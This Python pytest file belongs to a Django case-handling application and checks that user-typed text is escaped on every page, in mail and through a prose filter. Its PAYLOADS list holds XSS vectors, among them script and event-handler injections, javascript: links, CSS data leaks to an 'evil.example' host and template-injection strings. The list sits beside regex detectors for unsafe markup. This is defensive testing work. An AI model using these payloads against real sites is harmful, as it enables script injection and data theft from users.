"""What people type is shown as they typed it, on every page, in every mail and on every paper."""

import html
import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from django.apps import apps
from django.db import models

from loket.cases.actions.given import Given
from loket.cases.actions.handling import send_message
from loket.catalogue.models import FormVersion
from loket.catalogue.specs import forget_specs
from loket.catalogue.tests.forms import LEAVE
from loket.contacts.models import OutgoingMail, TextBlock
from loket.contacts.templatetags.prose import prose
from loket.core.tenancy import acting_in
from tests import world
from tests.make import LANGUAGES, acting, make_letters, make_service
from tests.security.asking import body_of
from tests.test_access import BUILT, Scene
from tests.world import ACTORS, World, make_world, sign_in

MARK = "<q onx=1>"
"""Short enough for every field, and an element of its own wherever it is not escaped."""
ESCAPED = html.escape(MARK)
MODULES = ("accounts", "people", "routing", "documents", "catalogue", "contacts", "cases", "desk")
CODES = {"key", "slug", "code", "number", "login", "password", "state", "kind", "status", "path",
         "type", "language", "message_id", "bundle_key", "view", "channel", "direction", "purpose",
         "session_key", "session_data", "loa", "loa_password", "widget", "agent", "url", "query",
         "queue", "value", "normalised", "avatar_key", "spec_id", "slot", "item", "privacy", "via",
         "waits_on", "resume_status", "outcome", "party", "back", "about_kind", "demo_role",
         "sort_key", "role", "checksum", "alert", "audience", "region", "format", "email", "icon"}  # fmt: skip
"""What programs write; everything else that is text, people or form managers typed."""
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><!--</svg>",
    "<svg><foreignObject><body onload=alert(1)>",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    '<p style="position:fixed;background:url(https://evil.example/x)">',
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1)) ![x](https://evil.example/x.png)",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/'onfocus='alert(1)'autofocus='",
    "</textarea></script><iframe srcdoc='<script>alert(1)</script>'>",
    "{{ settings.SECRET_KEY }} {% load x %} {{ ''.__class__ }}",
    "<math><mtext></p><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
)
ELEMENT = re.compile(r"<(script|img|svg|style|iframe|math|body|foreignObject)\b", re.IGNORECASE)
ATTRIBUTE = re.compile(r"<[^>]*\s(on\w+|style|srcdoc)\s*=", re.IGNORECASE)


def marked(value: Any) -> Any:
    """A text in languages, or a tree of such texts, with the mark behind each."""
    if isinstance(value, dict) and value and set(value) <= {*LANGUAGES, "v"} and "nl" in value:
        return {key: one + MARK if key != "v" and isinstance(one, str) else one
                for key, one in value.items()}  # fmt: skip
    if isinstance(value, dict):
        return {key: marked(one) for key, one in value.items()}
    return [marked(one) for one in value] if isinstance(value, list) else value


def texts_of(model: type[models.Model]) -> Iterator["models.Field[Any, Any]"]:
    for field in model._meta.concrete_fields:
        text = isinstance(field, models.CharField | models.TextField) and not field.choices
        if (text or isinstance(field, models.JSONField)) and field.name not in CODES:
            yield field


def mark_everything() -> None:
    """Put the mark behind every text in the database."""
    for app in MODULES:
        for model in set(apps.get_app_config(app).get_models()) - {FormVersion}:
            for row in model._meta.base_manager.all() if model._meta.base_manager else ():
                for field in texts_of(model):
                    value = getattr(row, field.attname)
                    longest = getattr(field, "max_length", None) or 10_000
                    if isinstance(value, str) and value and len(value) + len(MARK) <= longest:
                        setattr(row, field.attname, value + MARK)
                    elif isinstance(field, models.JSONField):
                        setattr(row, field.attname, marked(value))
                if list(texts_of(model)):
                    row.save(update_fields=[field.name for field in texts_of(model)])
    forget_specs()


@pytest.fixture
def here(db: None) -> World:
    return make_world("hier")


@pytest.fixture
def everything_marked(db: None, monkeypatch: pytest.MonkeyPatch) -> Scene:
    """A world of which every text bears the mark, the questions of its form too."""
    monkeypatch.setattr(world, "make_service", lambda one: make_service(one, marked(LEAVE)))
    here = make_world("hier")
    keys = {role: sign_in(here, person) for role, person in here.people.items()}
    with acting_in(here.organisation.pk):
        mark_everything()
    return Scene(here, here, keys)


def test_s50_no_text_of_the_database_is_markup_on_any_page(everything_marked: Scene) -> None:
    scene = everything_marked
    loose, shown = [], 0
    for row in BUILT:
        if "GET" not in row.methods:
            continue
        for actor in [one for one in ACTORS if row.expected(one) == "in"][:2]:
            if actor == "outsider":
                continue
            answer = scene.browser(actor).get(row.address(scene.here))
            said = body_of(answer)
            is_page = "text/html" in answer.headers.get("Content-Type", "")
            loose += [(actor, row.name)] if is_page and MARK in said else []
            shown += ESCAPED in said

    assert loose == []
    assert shown > 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_s48_a_message_is_shown_as_it_was_typed(payload: str) -> None:
    shown = str(prose(payload))

    assert not ELEMENT.search(shown)
    assert not ATTRIBUTE.search(shown)
    assert "javascript:" not in "".join(re.findall(r'href="([^"]*)"', shown))
    assert html.unescape(re.sub(r"<[^>]+>", "", shown)).replace("\n", "") == payload


@pytest.mark.parametrize("row", ["s46", "s47", "s49"])
def test_s46_s47_s49_nothing_that_was_typed_is_markup_in_a_page_or_a_mail(
    here: World, run_jobs: Callable[..., list[str]], row: str
) -> None:
    typed = {"s46": PAYLOADS[:4], "s47": PAYLOADS[4:6], "s49": PAYLOADS[6:]}[row]
    case, handler = here.things["case"], here.people["handler"]
    text = "\n\n".join(typed)
    with acting_in(here.organisation.pk):
        make_letters()
        type_everywhere(here, text)
        case.refresh_from_db()
        send_message(case, by=acting(handler), given=Given(text=text))
        run_jobs()
        mails = list(OutgoingMail.objects.values_list("html", flat=True))
    scene = Scene(here, here, {"requester": sign_in(here, here.people["requester"]),
                               "handler": sign_in(here, handler)})  # fmt: skip
    pages = [scene.browser(actor).get(at.format(n=case.number)).text
             for actor, at in (("requester", "/zaken/{n}/"), ("handler", "/werk/zaken/{n}/"),
                               ("handler", "/werk/tekstblokken/"),
                               ("handler", f"/werk/tekstblokken/{here.things['block'].key}/"))]  # fmt: skip

    found = [one for said in (*pages, *mails) for one in typed if "<" in one and one in said]
    assert found == []
    assert html.escape(typed[0]) in pages[0]
    assert [said for said in mails if ATTRIBUTE.search(said) and "alert(1)" in said] == []


def type_everywhere(here: World, text: str) -> None:
    """Let a text block and the names of people and teams say it too."""
    case, block = here.things["case"], here.things["block"]
    TextBlock.objects.filter(pk=block.pk).update(
        body=dict.fromkeys(LANGUAGES, text), title=dict.fromkeys(LANGUAGES, text[:80])
    )
    type(case).objects.filter(pk=case.pk).update(
        title=dict.fromkeys(LANGUAGES, text), status="in_progress"
    )
